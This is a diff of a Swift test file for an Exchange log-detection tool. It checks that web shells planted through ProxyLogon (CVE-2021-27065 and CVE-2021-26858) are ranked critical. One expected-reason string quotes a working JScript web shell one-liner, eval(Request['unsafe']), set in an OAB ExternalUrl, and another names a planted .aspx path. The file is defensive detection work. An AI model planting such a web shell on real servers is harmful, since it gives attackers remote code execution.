@@ -21,46 +21,58 @@ struct SourcesTests {
 
     func fixture(_ name: String) -> String { IngestTests.fixtures.appendingPathComponent(name).path }
 
-    @Test("a web shell written through the ECP into an OAB ExternalUrl ranks critical, from the ECP Server log alone")
-    func ecpWebShell() throws {
-        let connection = try TestDatabase.fresh("ecp").connect()
-        let summary = try ingest([fixture("ecp-server.log")], into: connection)
-        #expect(summary.loaded == 3 && summary.quarantined == 1 && summary.otherWorkloads == 1)
-        _ = try DetectionRunner(sql: TestDatabase.sql, logger: TestDatabase.logger).run(connection)
-        let top = try #require(try RankedSession.top(5, minimumScore: 0, from: connection).first)
-        #expect(top.severity == "critical")
-        #expect(top.detectors.first == "virtual-directory-script")
-        #expect(
-            top.reasons.first?.hasPrefix(
-                "an unnamed identity set Set-OabVirtualDirectory ExternalUrl to script: http://f/<script") == true)
+    /// A ProxyLogon step that one on-premises log shows alone: what the fixture loads, and the
+    /// first reason of the session that ranks first.
+    struct OneLogAttack: Sendable, CustomTestStringConvertible {
+        var fixture: String
+        var loaded: Int
+        var quarantined: Int
+        var skipped: Int
+        var detector: String
+        var reason: String
+
+        var testDescription: String { detector }
     }
 
-    @Test("oab-file-write: an OAB download that wrote a web page outside OAB\\Temp ranks critical; one inside does not")
-    func oabFileWrite() throws {
-        let connection = try TestDatabase.fresh("oab").connect()
-        let summary = try ingest([fixture("oab-generator.log")], into: connection)
-        #expect(summary.loaded == 3 && summary.quarantined == 1 && summary.otherWorkloads == 2)
+    @Test(
+        "a ProxyLogon write ranks critical from one on-premises log alone",
+        arguments: [
+            // A web shell written through the ECP into an OAB ExternalUrl (CVE-2021-27065).
+            OneLogAttack(
+                fixture: "ecp-server.log", loaded: 3, quarantined: 1, skipped: 1, detector: "virtual-directory-script",
+                reason: #"an unnamed identity set Set-OabVirtualDirectory ExternalUrl to script: http://f/<script "#
+                    + #"language="JScript" runat="server">function Page_Load(){eval(Request["unsafe"],"unsafe");}"#
+                    + "</script>"),
+            // An OAB download written as a web page outside OAB\Temp (CVE-2021-26858): "oab-file-write".
+            OneLogAttack(
+                fixture: "oab-generator.log", loaded: 3, quarantined: 1, skipped: 2, detector: "oab-file-write",
+                reason: #"The OAB generator wrote C:\inetpub\wwwroot\aspnet_client\system_web\Zk3pQ.aspx, outside "#
+                    + #"ClientAccess\OAB\Temp: a script page the web server may run"#),
+        ])
+    func oneLogAttack(_ attack: OneLogAttack) throws {
+        let connection = try TestDatabase.fresh("onelog").connect()
+        let summary = try ingest([fixture(attack.fixture)], into: connection)
+        #expect(summary.loaded == attack.loaded)
+        #expect(summary.quarantined == attack.quarantined && summary.otherWorkloads == attack.skipped)
         _ = try DetectionRunner(sql: TestDatabase.sql, logger: TestDatabase.logger).run(connection)
         let top = try #require(try RankedSession.top(5, minimumScore: 0, from: connection).first)
         #expect(top.severity == "critical")
-        #expect(top.detectors.first == "oab-file-write")
-        #expect(
-            top.reasons.first
-                == #"The OAB generator wrote C:\inetpub\wwwroot\aspnet_client\system_web\Zk3pQ.aspx, outside "#
-                + #"ClientAccess\OAB\Temp: a script page the web server may run"#)
+        #expect(top.detectors.first == attack.detector)
+        #expect(top.reasons.first == attack.reason)
+    }
 
-        // The benign look-alike: a download that failed inside the generator's own folder.
-        let benign = try TestDatabase.fresh("oab_benign").connect()
-        let temp = FileManager.default.temporaryDirectory.appendingPathComponent(
-            "mailhound-oab-\(UUID()).LOG")
+    @Test("oab-file-write: a download that failed inside ClientAccess\\OAB\\Temp is not flagged")
+    func oabDownloadInsideItsFolder() throws {
+        let connection = try TestDatabase.fresh("oab_benign").connect()
+        let temp = FileManager.default.temporaryDirectory.appendingPathComponent("mailhound-oab-\(UUID()).LOG")
         defer { try? FileManager.default.removeItem(at: temp) }
         try
             ("#Log-type: OABGenerator Log\r\n2021-03-03T03:31:14.080Z,EXCH01,Warning,Download failed and temporary "
             + #"file 'C:\Program Files\Microsoft\Exchange Server\V15\ClientAccess\OAB\Temp\1c7a2d94\oab.lzx' "#
             + "needs to be removed.\r\n").write(to: temp, atomically: true, encoding: .utf8)
-        #expect(try ingest([temp.path], into: benign).loaded == 1)
-        _ = try DetectionRunner(sql: TestDatabase.sql, logger: TestDatabase.logger).run(benign)
-        let flagged = try benign.execute(
+        #expect(try ingest([temp.path], into: connection).loaded == 1)
+        _ = try DetectionRunner(sql: TestDatabase.sql, logger: TestDatabase.logger).run(connection)
+        let flagged = try connection.execute(
             "select count(*) as n from mailhound.findings where detector_id = 'oab-file-write'")
         #expect(flagged.rows.first?.int("n") == 0)
     }
